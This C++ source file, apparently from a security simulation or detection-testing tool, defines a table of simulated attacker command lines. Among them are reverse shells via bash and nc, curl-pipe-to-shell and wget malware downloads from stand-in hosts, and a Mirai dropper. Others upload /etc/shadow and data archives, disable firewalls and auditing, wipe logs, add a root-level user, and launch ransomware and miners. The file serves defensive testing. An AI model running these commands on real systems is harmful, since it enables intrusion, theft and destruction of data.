// Command lines of playbooks: strings inside simulated events. Nothing runs them, their addresses
// are documentation ranges, their names end in `.example`.

#include <string_view>

#include "host/entries.h"
#include "host/rows.h"

namespace twinstorm::host {
namespace {

using namespace program;

constexpr ProgramRow kPlayed[] = {
    {kEchoBinary, "/bin/sh",
     "sh -c \"echo -ne '\\\\x7f\\\\x45\\\\x4c\\\\x46\\\\x01\\\\x01\\\\x01\\\\x00' > /tmp/.b; "
     "/tmp/.b\""},
    {kIptablesFlush, "/usr/sbin/iptables", "iptables -F"},
    {kUfwDisable, "/usr/sbin/ufw", "ufw disable"},
    {kStopFirewalld, "/usr/bin/systemctl", "systemctl stop firewalld"},
    {kSshReverse, "/usr/bin/ssh", "ssh -R 8080:localhost:80 user@203.0.113.9"},
    {kStopAuditd, "/usr/bin/systemctl", "systemctl stop auditd"},
    {kAuditctlOff, "/usr/sbin/auditctl", "auditctl -e 0"},
    {kBashReverse, "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},
    {kNcReverse, "/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4445"},
    {kSuLogin, "/bin/su", "su"},
    {kWebShell, "/bin/sh", "sh -c \"id; uname -a; cat /var/www/html/config.php\""},
    {kWebShellWhoami, "/usr/bin/whoami", "whoami"},
    {kRansomware, "/tmp/.encryptor", "/tmp/.encryptor --extension .locked /home /var/lib"},
    {kRansomNote, "/bin/sh", "sh -c \"echo 'all your files are encrypted' > /README_DECRYPT.txt\""},
    {kEchoMiner, "/bin/sh", "sh -c \"echo cpuminer-multi\""},
    {kMinerd, "/tmp/minerd",
     "/tmp/minerd -a cryptonight -o stratum+tcp://pool.miner.example:3333 -u 4worker"},
    {kBotDropper, "/bin/sh",
     "sh -c \"cd /tmp || cd /var/run; busybox tftp -g -r mirai.arm7 198.51.100.77; chmod 777 "
     "mirai.arm7; ./mirai.arm7\""},
    {kBotBusybox, "/bin/busybox", "/bin/busybox MIRAI"},
    {kRmWebRoot, "/usr/bin/rm", "rm -rf /var/www"},
    {kDockerMiner, "/usr/bin/docker", "docker run -d --restart always kannix/monero-miner"},
    {kNohupTemp, "/usr/bin/nohup", "nohup /tmp/.x/update"},
    {kUseradd, "/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M -s /bin/bash intruder"},
    {kDockerdExposed, "/usr/bin/dockerd", "dockerd -H tcp://0.0.0.0:2375"},
    {kWgetMalware, "/usr/bin/wget", "wget http://malware.bad-host.example/x.sh -O /tmp/x.sh"},
    {kCatHtaccess, "/usr/bin/cat", "cat /var/www/html/.htaccess"},
    {kNmap, "/usr/bin/nmap", "nmap -sS -p 1-1024 192.0.2.0/24"},
    {kHydra, "/usr/bin/hydra", "hydra -l root -P /tmp/words.txt ssh://192.0.2.30"},
    {kUname, "/usr/bin/uname", "uname -a"},
    {kCatCpuinfo, "/usr/bin/cat", "cat /proc/cpuinfo"},
    {kCatPasswd, "/usr/bin/cat", "cat /etc/passwd"},
    {kWhoami, "/usr/bin/whoami", "whoami"},
    {kPythonScript, "/usr/bin/python3", "python x.sh"},
    {kBackdoorDownload, "/usr/bin/wget", "wget http://198.51.100.77/svc -O /tmp/svc"},
    {kBackdoorMode, "/usr/bin/chmod", "chmod +x /tmp/svc"},
    {kBackdoorRun, "/tmp/svc", "/tmp/svc"},
    {kCurlUpload, "/usr/bin/curl", "curl -T /var/lib/data.tar.gz http://drop.bad-host.example/up"},
    {kScpUpload, "/usr/bin/scp", "scp /etc/shadow user@203.0.113.9:/tmp/"},
    {kDockerPrivileged, "/usr/bin/docker",
     "docker run --privileged -v /:/host alpine chroot /host"},
    {kRmAuthLog, "/usr/bin/rm", "rm -f /var/log/auth.log"},
    {kTrailingSpace, "/tmp/sshd ", "/tmp/sshd "},
    {kCredentialDump, "/tmp/mimipenguin", "/tmp/mimipenguin"},
    {kGccTemp, "/usr/bin/gcc", "gcc /tmp/exploit.c -o /tmp/exploit"},
    {kCurlPipe, "/bin/sh", "sh -c \"curl -s http://malware.bad-host.example/i.sh | sh\""},
    {kTiBeacon, "/tmp/.cache", "/tmp/.cache"},
    {kNameBeacon, "/tmp/.resolver", "/tmp/.resolver"},
    {kHistoryClear, "/usr/bin/bash", "bash -c \"history -c\""},
    {kRmHistory, "/usr/bin/rm", "rm ~/.bash_history"},
    {kOverwriteLs, "/usr/bin/cp", "cp /tmp/.ls /bin/ls"},
    {kUsermodAdd, "/usr/sbin/usermod", "usermod -aG sudo technician"},
    {kGpasswdDelete, "/usr/bin/gpasswd", "gpasswd -d technician dialout"},
    {kUserdel, "/usr/sbin/userdel", "userdel technician"},
    {kNcListen, "/usr/bin/nc", "nc -l -k 8888"},
    {kIptablesPermissive, "/usr/sbin/iptables", "iptables -A INPUT -p tcp --dport 1337 -j ACCEPT"},
};
static_assert(stands_in_order(kPlayed, kPlayedFirst));
static_assert(kPlayedFirst + std::size(kPlayed) == kEnd);

}  // namespace

std::span<const ProgramRow> played_programs() {
    return kPlayed;
}

}  // namespace twinstorm::host
